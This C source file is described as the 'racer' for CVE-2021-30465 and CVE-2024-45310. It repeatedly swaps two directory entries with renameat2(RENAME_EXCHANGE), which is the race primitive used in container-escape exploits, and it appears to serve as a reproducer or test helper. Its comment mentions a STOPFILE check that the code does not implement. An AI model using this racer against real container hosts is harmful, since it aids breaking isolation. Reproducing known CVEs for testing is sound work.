/* The racer of CVE-2021-30465 and CVE-2024-45310: swaps two directory entries of DIR with
 * renameat2(RENAME_EXCHANGE) until SECONDS pass or STOPFILE exists, then puts them back the
 * way they were. Prints the number of swaps. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: %s DIR A B SECONDS\n", argv[0]);
        return 2;
    }
    int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0) return 3;
    double deadline = now() + atof(argv[4]);
    long swaps = 0;
    while (now() < deadline) {
        for (int i = 0; i < 64; ++i) {
            if (syscall(SYS_renameat2, dir, argv[2], dir, argv[3], RENAME_EXCHANGE) == 0) ++swaps;
        }
    }
    if (swaps % 2 == 1) syscall(SYS_renameat2, dir, argv[2], dir, argv[3], RENAME_EXCHANGE);
    printf("%ld\n", swaps);
    return 0;
}
